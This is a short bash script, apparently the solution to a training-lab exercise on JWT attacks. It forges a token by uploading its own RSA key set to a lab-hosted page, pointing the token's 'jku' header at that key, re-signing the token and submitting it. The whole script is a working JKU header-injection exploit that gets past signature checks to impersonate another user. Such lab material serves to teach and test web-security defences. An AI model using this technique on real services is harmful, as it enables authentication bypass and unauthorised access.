#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at key-address token)")"
own_rsa_key
jku="$(printf '{"keys":[%s]}' "$JWK" | curl -s -T - "$LAB/s/$LEARNER/site/keys.json")"
header="$(printf '{"alg":"RS256","jku":"%s"}' "$jku" | b64)"
input="$header.$(claims "$token")"
send key-address "$input.$(rs256 "$input")"
